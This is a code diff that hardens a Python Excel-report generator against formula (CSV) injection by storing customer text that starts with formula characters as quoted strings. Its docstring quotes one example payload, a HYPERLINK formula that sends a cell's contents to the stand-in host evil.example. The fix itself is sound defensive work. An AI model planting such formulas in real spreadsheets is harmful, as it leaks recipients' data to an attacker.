@@ -13,6 +13,7 @@ from datetime import datetime
 from pathlib import Path
 from typing import Any
 
+from openpyxl.cell.cell import Cell
 from openpyxl.drawing.image import Image
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
@@ -49,13 +50,32 @@ def display(value: Any) -> str:
     return "" if value is None else str(value)
 
 
+# A text starting with one of these is a formula to Excel or LibreOffice (OWASP "CSV injection"): "-" and "+"
+# start arithmetic, "@" a function call, and a leading tab or CR is stripped by some importers before they look.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
+    """Write one cell; a customer's text is never a formula, however it starts.
+
+    Subjects, names and categories come from mail anyone can send, and the workbook is mailed to managers: openpyxl
+    stores a string starting with "=" as a live formula (``=HYPERLINK("http://evil.example/?d="&B2, …)``). Such a
+    text is kept as a string with Excel's quote prefix, so it shows as written and stays text if the cell is edited.
+    """
+    cell = ws.cell(row=row, column=column, value=value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
 def write_table(ws: Worksheet, top: int, columns: Sequence[Column], rows: Sequence[Sequence[Any]]) -> int:
     """A bold header row and the rows under it; returns the row after one blank row below the table."""
     for index, column in enumerate(columns, start=1):
-        ws.cell(row=top, column=index, value=column.header).font = BOLD
+        put(ws, top, index, column.header).font = BOLD
     for r, values in enumerate(rows, start=top + 1):
         for index, (column, value) in enumerate(zip(columns, values, strict=True), start=1):
-            cell = ws.cell(row=r, column=index, value=value)
+            cell = put(ws, r, index, value)
             if column.number_format and isinstance(value, int | float | datetime) and not isinstance(value, bool):
                 cell.number_format = column.number_format
     return top + len(rows) + 2
@@ -204,7 +224,7 @@ def _about(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Pat
         ("about.tickets", len(data.tickets))]
     for row, (key, value) in enumerate(facts, start=3):
         ws.cell(row=row, column=1, value=words(key)).font = BOLD
-        cell = ws.cell(row=row, column=2, value=value)
+        cell = put(ws, row, 2, value)
         cell.alignment = Alignment(horizontal="left")
         if isinstance(value, datetime):
             cell.number_format = DATE_FORMAT
